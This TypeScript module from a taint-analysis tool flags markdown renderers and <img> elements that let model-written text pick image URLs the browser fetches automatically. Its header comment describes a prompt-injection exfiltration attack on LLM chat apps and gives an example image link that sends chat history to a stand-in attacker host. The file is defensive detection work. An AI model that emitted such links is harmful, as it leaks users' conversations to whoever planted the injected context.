// Markdown renderers that load the images their text names (react-markdown, Streamdown, marked,
// markdown-it, ...): model text rendered by one lets whoever wrote the model's context choose URLs
// the user's browser requests with no click (`![](https://evil.example/?q=<chat history>)`). Such a
// renderer is a `markdown` sink (a `sink` row with `images` options); this module decides whether a
// given call or element leaves image URLs to the text, and treats a package component written as a
// JSX element as the call React makes of it: `<Markdown>{text}</Markdown>` is `Markdown({ children: text })`.
import type { TSESTree } from "@typescript-eslint/typescript-estree";
import type { Evaluator, Frame } from "./evaluator";
import { argAt } from "./model-rows";
import { checkSink } from "./sinks";
import type { Node } from "./syntax";
import type { ModelRow } from "../model";
import { CLEAN, flatten, isTainted, join, SINK_BITS, type Val } from "../value";

type SinkRow = Extract<ModelRow, { kind: "sink" }>;

/** An option given restricts image URLs unless it is an allow-list holding "*" (Streamdown's default). */
function restricts(v: Val): boolean {
  return !(flatten(v).str === "*" || v.elems?.some((e) => flatten(e).str === "*"));
}

/** Whether the row's options (`args`, read by argument path) leave image URLs to the rendered text. */
export function loadsRemoteImages(ev: Evaluator, row: SinkRow, args: Val[], argNodes: readonly Node[]): boolean {
  const images = row.images;
  if (!images) return true;
  for (const g of images.guards ?? []) {
    const at = argAt(ev, args, argNodes, g);
    if (at && restricts(at.val)) return false;
  }
  if (images.disallowed) {
    const list = argAt(ev, args, argNodes, images.disallowed)?.val.elems;
    if (list?.some((e) => flatten(e).str === "img")) return false;
  }
  if (images.allowed) {
    const list = argAt(ev, args, argNodes, images.allowed)?.val.elems;
    // Only a list read element by element: an unknown one may well hold "img".
    if (list && list.every((e) => flatten(e).str !== undefined) && !list.some((e) => flatten(e).str === "img")) return false;
  }
  return true;
}

/**
 * A JSX element naming a package component with `markdown` sink rows (`<ReactMarkdown>`, `<Streamdown>`):
 * its props (children included) are the call's first argument. `<img src={...}>` loads its URL too.
 */
export function renderedElement(ev: Evaluator, el: TSESTree.JSXElement, props: Map<string, Val>, propNodes: Map<string, Node>, children: { val: Val; node: Node }[], frame: Frame): void {
  const open = el.openingElement;
  if (open.name.type !== "JSXIdentifier") return;
  const name = open.name.name;
  if (name === "img") { imageSource(ev, props.get("src"), propNodes.get("src"), open, frame); return; }
  if (!/^[A-Z]/.test(name)) return;
  const b = frame.scope.lookup(name);
  const ref = b ? ev.readBinding(b, frame, null).ref : undefined;
  if (!ref) return;
  const rows = ev.models.find(ref, "sink").filter((r) => r.sink === "markdown");
  if (!rows.length) return;
  const fields = new Map(props);
  const tainted = children.filter((c) => isTainted(c.val));
  if (children.length && !fields.has("children")) fields.set("children", children.reduce((m, c) => join(m, c.val), CLEAN));
  const args = [{ ...CLEAN, fields }];
  for (const row of rows) {
    const field = row.arg.split(".")[1];
    const v = field ? fields.get(field) : undefined;
    if (!v || !isTainted(flatten(v)) || !loadsRemoteImages(ev, row, args, [])) continue;
    const node = field === "children" && tainted.length && !propNodes.has("children") ? tainted[0].node : propNodes.get(field!) ?? open;
    checkSink(ev, v, "markdown", node, frame, { api: `<${name}>`, container: { start: el.range[0], end: el.range[1] } });
  }
}

/** `<img src={url}>`: the browser requests the URL as the element renders; a URL with a fixed host is no channel. */
function imageSource(ev: Evaluator, src: Val | undefined, node: Node | undefined, open: TSESTree.JSXOpeningElement, frame: Frame): void {
  if (!src || !node) return;
  const v = flatten(src);
  if (v.san & SINK_BITS.url) return;
  checkSink(ev, v, "markdown", node, frame, { api: "<img src>", container: { start: open.range[0], end: open.range[1] } });
}
